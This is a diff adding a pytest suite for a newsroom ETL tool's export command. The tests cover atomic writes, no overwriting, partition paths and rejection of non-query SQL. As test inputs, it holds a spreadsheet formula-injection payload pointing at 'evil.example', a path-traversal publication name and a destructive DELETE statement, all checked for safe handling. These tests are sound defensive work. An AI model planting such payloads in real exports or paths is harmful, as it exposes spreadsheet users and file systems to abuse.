@@ -1,0 +1,149 @@
+"""`broadsheet export`: whole files or none, never over another, and nothing in them that a spreadsheet runs."""
+
+from __future__ import annotations
+
+import csv
+import json
+from pathlib import Path
+from typing import Any
+
+import duckdb
+import pyarrow.dataset
+import pyarrow.parquet as pq
+import pytest
+from newsroom import Newsroom, article, make_newsroom
+from typer.testing import CliRunner, Result
+
+from etl.cli import app, cookbook
+from etl.reports import export as exporting
+
+FORMULA = '=HYPERLINK("https://evil.example",A1)'
+
+
+@pytest.fixture(scope="module")
+def house(tmp_path_factory: pytest.TempPathFactory) -> Newsroom:
+    """A published file of four articles in two publications, one of them with a name that is a path."""
+    newsroom = make_newsroom(tmp_path_factory.mktemp("export"))
+    articles = [
+        article(number, publication="../../Harbour Courier" if number == 4 else "Gazette") for number in range(1, 5)
+    ]
+    articles[0]["headline"] = FORMULA
+    newsroom.ingest(newsroom.drop("a.jsonl", articles))
+    return newsroom
+
+
+@pytest.fixture
+def export(house: Newsroom, monkeypatch: pytest.MonkeyPatch) -> Any:
+    monkeypatch.setenv("BROADSHEET_HOME", str(house.settings.home))
+    monkeypatch.setenv("BROADSHEET_SOURCES", str(house.settings.sources))
+
+    def run(*arguments: object) -> Result:
+        return CliRunner().invoke(app, ["export", *map(str, arguments)])
+
+    return run
+
+
+def test_a_mart_comes_out_the_same_in_parquet_and_json(export: Any, house: Newsroom, tmp_path: Path) -> None:
+    for name in ("a.parquet", "a.json"):
+        done = export("mart.article", "--to", tmp_path / name)
+        assert done.exit_code == 0, done.output
+        assert "Wrote 4 rows" in done.output
+    expected = house.ask_published("select article_id, headline, body from mart.article order by all")
+    read = duckdb.connect().execute
+    for source in (f"'{tmp_path}/a.parquet'", f"read_json('{tmp_path}/a.json')"):
+        assert read(f"select article_id, headline, body from {source} order by all").fetchall() == expected
+    assert len(json.loads((tmp_path / "a.json").read_text())) == 4
+
+
+def test_a_spreadsheet_runs_nothing_in_a_csv(export: Any, tmp_path: Path) -> None:
+    assert (
+        export("select headline, authors from mart.article where article_id = 1;", "--to", tmp_path / "a.csv").exit_code
+        == 0
+    )
+    with (tmp_path / "a.csv").open(encoding="utf-8", newline="") as file:
+        assert list(csv.reader(file)) == [["headline", "authors"], ["'" + FORMULA, '["Mara Lindqvist"]']]
+
+
+def test_partitions_stay_below_the_folder_whatever_a_publication_is_called(export: Any, tmp_path: Path) -> None:
+    done = export("mart.article", "--to", tmp_path / "out", "--partition-by", "publication")
+    assert done.exit_code == 0, done.output
+    folders = [path.name for path in (tmp_path / "out").iterdir()]
+    assert [path.name for path in tmp_path.iterdir()] == ["out"]
+    assert sorted(folders) == ["publication=..%2F..%2FHarbour%20Courier", "publication=Gazette"]
+    table = pyarrow.dataset.dataset(tmp_path / "out", partitioning="hive").to_table(
+        columns=["publication", "article_id"]
+    )
+    assert sorted(table["publication"].to_pylist()) == ["../../Harbour Courier", "Gazette", "Gazette", "Gazette"]
+
+
+def test_a_question_of_the_cookbook_goes_by_its_name_and_in_its_words(
+    export: Any, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    (tmp_path / "queries").mkdir()
+    (tmp_path / "queries" / "how_many.sql").write_text("-- How many?\nselect count(*) as n from mart.article; -- all\n")
+    monkeypatch.setattr(cookbook, "SQL", tmp_path)
+    assert export("how_many", "--to", tmp_path / "n.out", "--format", "parquet").exit_code == 0
+    assert pq.read_table(tmp_path / "n.out").to_pylist() == [{"n": 4}]
+    assert export(tmp_path / "queries" / "how_many.sql", "--to", tmp_path / "n.csv").exit_code == 0
+    assert export("How many?", "--to", tmp_path / "w.csv").exit_code == 0
+    assert (tmp_path / "w.csv").read_bytes() == (tmp_path / "n.csv").read_bytes()
+
+
+def test_an_order_and_an_empty_result_are_kept(export: Any, tmp_path: Path) -> None:
+    assert export("select article_id from mart.article order by 1 desc", "--to", tmp_path / "d.csv").exit_code == 0
+    assert (tmp_path / "d.csv").read_text().split() == ["article_id", "4", "3", "2", "1"]
+    for ending in ("csv", "json", "parquet"):
+        target = tmp_path / f"e.{ending}"
+        assert export("select article_id from mart.article where false", "--to", target).exit_code == 0
+        assert target.exists()
+    assert pq.read_table(tmp_path / "e.parquet").column_names == ["article_id"]
+    assert json.loads((tmp_path / "e.json").read_text()) == []
+
+
+@pytest.mark.parametrize(
+    ("arguments", "code", "message"),
+    [
+        (["mart.article", "--to", "there.csv"], 2, "there.csv is there already"),
+        (["mart.article", "--to", "new.txt"], 2, "which format?"),
+        (["mart.article", "--to", "nowhere/a.csv"], 2, "no such folder"),
+        (["mart.article", "--to", "."], 2, ". is a folder; name the file in it"),
+        (["what_was_load", "--to", "new.csv"], 2, "did you mean what_was_loaded?"),
+        (
+            ["Which paper takes stories from which other?", "--to", "new.csv"],
+            2,
+            "is: Which paper takes stories from which other, and",
+        ),
+        (["mart.artcle", "--to", "new.csv"], 1, 'Did you mean "article"?'),
+        (["mart.article", "--to", "new.csv", "--partition-by", "publication"], 2, "goes with --format parquet"),
+        (["mart.article", "--to", "new", "--partition-by", "paper"], 1, "paper"),
+        (["mart.articles", "--to", "new.csv"], 1, "does not exist"),
+        (["delete from news.fact_article", "--to", "new.csv"], 2, "only a query"),
+        (["select 1; select 2", "--to", "new.csv"], 2, "expected one SQL statement"),
+        (["select headline from mart.article where error('no') = 1", "--to", "new.parquet"], 1, "no"),
+    ],
+)
+def test_what_cannot_be_done_is_said_and_leaves_nothing(
+    export: Any,
+    tmp_path: Path,
+    monkeypatch: pytest.MonkeyPatch,
+    arguments: list[str],
+    code: int,
+    message: str,
+    capfd: pytest.CaptureFixture[str],
+) -> None:
+    monkeypatch.chdir(tmp_path)
+    Path("there.csv").write_text("mine")
+    done = export(*arguments)
+    assert done.exit_code == code
+    assert message in " ".join((done.output + capfd.readouterr().err).split())
+    assert [path.name for path in tmp_path.iterdir()] == ["there.csv"]
+    assert Path("there.csv").read_text() == "mine"
+
+
+def test_a_file_that_appeared_meanwhile_is_not_overwritten(tmp_path: Path) -> None:
+    target = tmp_path / "a.json"
+    with pytest.raises(exporting.ExportError, match="is there already"), exporting._whole(target) as part:
+        part.write_text("ours")
+        target.write_text("theirs")
+    assert target.read_text() == "theirs"
+    assert [path.name for path in tmp_path.iterdir()] == ["a.json"]
